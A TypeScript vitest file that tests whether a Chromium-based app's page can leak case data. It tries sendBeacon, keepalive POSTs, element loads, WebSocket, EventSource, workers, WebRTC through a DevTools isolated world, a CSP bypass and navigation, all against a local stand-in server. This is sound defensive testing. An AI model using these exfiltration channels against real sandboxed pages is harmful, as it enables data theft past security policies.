import dgram from 'node:dgram'
import { once } from 'node:events'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { CHROMIUM_ORIGIN } from '#shell/origins'
import { createEchoFixture, echo, type EchoFixture } from './echo-app-fixture'
import type { RunningApp } from './harness'

let fixture: EchoFixture
let app: RunningApp
let outside: Awaited<ReturnType<typeof createOutside>>

/** A server that would be glad of any byte: it counts connections, not only requests, and datagrams. */
async function createOutside() {
  const reached: string[] = []
  const server = http.createServer((_, response) => response.setHeader('Access-Control-Allow-Origin', '*').end('outside'))
  server.on('connection', () => reached.push('a connection'))
  const datagrams = dgram.createSocket('udp4').on('message', () => reached.push('a datagram'))
  server.listen(0, '127.0.0.1')
  datagrams.bind(0, '127.0.0.1')
  await Promise.all([once(server, 'listening'), once(datagrams, 'listening')])
  const { port } = server.address() as AddressInfo
  return {
    address: `127.0.0.1:${port}`,
    stun: `stun:127.0.0.1:${datagrams.address().port}`,
    reached: () => [...reached],
    reset: () => reached.splice(0),
    async close() {
      server.closeAllConnections()
      server.close()
      datagrams.close()
    },
  }
}

beforeAll(async () => {
  fixture = await createEchoFixture()
  outside = await createOutside()
  // A workstation's proxy would take what the browser itself can no longer resolve.
  const proxy = `http://${outside.address}`
  app = await fixture.open({ env: { http_proxy: proxy, https_proxy: proxy, all_proxy: proxy, no_proxy: '' } })
}, 60_000)
beforeEach(() => outside.reset())
afterAll(async () => {
  await fixture.remove()
  await outside.close()
})

/** Every way out that a page has, each tried to its end; the directives of the policy that spoke up. */
function tryEverything({ address }: { address: string }): Promise<string[]> {
  return app.page.evaluate(async (address) => {
    const violated = new Set<string>()
    document.addEventListener('securitypolicyviolation', event => violated.add(event.effectiveDirective))
    const url = `http://${address}/`
    const element = (name: string, set: Record<string, string>): Promise<unknown> => new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), set)
      made.onload = made.onerror = resolve
      document.body.append(made)
    })
    const hint = (rel: string): void => document.head.append(Object.assign(document.createElement('link'), { rel, href: url }))
    const worker = new Worker('/worker.js')
    const socket = new WebSocket(`ws://${address}/`)
    const events = new EventSource(url)
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) hint(rel)
    navigator.sendBeacon(url, 'case data')
    await Promise.all([
      fetch(url).catch(() => {}),
      fetch(url, { mode: 'no-cors', method: 'POST', body: 'case data', keepalive: true }).catch(() => {}),
      element('img', { src: url }),
      element('script', { src: url }),
      element('link', { rel: 'stylesheet', href: url }),
      element('iframe', { src: url }),
      new Promise((resolve) => { socket.onclose = socket.onerror = resolve }),
      new Promise((resolve) => { events.onerror = resolve }),
      new Promise((resolve) => { worker.onmessage = resolve; worker.postMessage(url) }),
    ])
    events.close()
    worker.terminate()
    return [...violated]
  }, address)
}

/** Talks to a STUN server from a script world of the browser's own, where WebRTC is still there. */
async function tryWebRtc(stun: string): Promise<void> {
  const devtools = await app.page.context().newCDPSession(app.page)
  const { frameTree } = await devtools.send('Page.getFrameTree')
  const { executionContextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id })
  // An open way out shows within milliseconds; a closed one is looked for during half a minute.
  const expression = `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(stun)} }] })
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise(resolve => setTimeout(resolve, 2000))
  })()`
  const { exceptionDetails } = await devtools.send('Runtime.evaluate', { contextId: executionContextId, expression, awaitPromise: true })
  if (exceptionDetails) throw new Error(exceptionDetails.text)
}

async function reload(): Promise<void> {
  await app.page.goto(`${CHROMIUM_ORIGIN}/`)
}

describe('case data in the page', { timeout: 60_000 }, () => {
  it('would reach the server if nothing were in its way', async () => {
    await fetch(`http://${outside.address}/`)
    expect(outside.reached()).toEqual(['a connection'])
  })

  it('does not leave by any way a page has, and the policy says so', async () => {
    const violated = await tryEverything(outside)
    expect(violated).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'frame-src']))
    expect(outside.reached()).toEqual([])
  })

  it('does not leave even where the policy fails: the firewall stands by itself', async () => {
    const devtools = await app.page.context().newCDPSession(app.page)
    await devtools.send('Page.setBypassCSP', { enabled: true })
    await reload()
    expect(await tryEverything(outside)).not.toContain('connect-src')
    expect(outside.reached()).toEqual([])
    await devtools.send('Page.setBypassCSP', { enabled: false })
    await reload()
  })

  it('does not leave over WebRTC: neither the page nor a frame of its has it, and its datagrams go nowhere', async () => {
    expect(await app.page.evaluate(() => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      return [globalThis, frame.contentWindow].map(each => each !== null && ('RTCPeerConnection' in each || 'webkitRTCPeerConnection' in each))
    })).toEqual([false, false])
    await tryWebRtc(outside.stun)
    expect(outside.reached()).toEqual([])
  })

  it('does not leave with the page itself: a link, a form and a script may not lead it away', async () => {
    await app.page.evaluate((url) => {
      const link = Object.assign(document.createElement('a'), { href: url })
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
      document.body.append(link, form)
      form.submit()
      link.click()
    }, `http://${outside.address}/`)
    await app.page.evaluate(url => location.assign(url), `http://${outside.address}/`)
    expect(await echo(app, 'still the app')).toBe('echo still the app')
    expect(app.page.url()).toBe(`${CHROMIUM_ORIGIN}/`)
    expect(outside.reached()).toEqual([])
  })
})
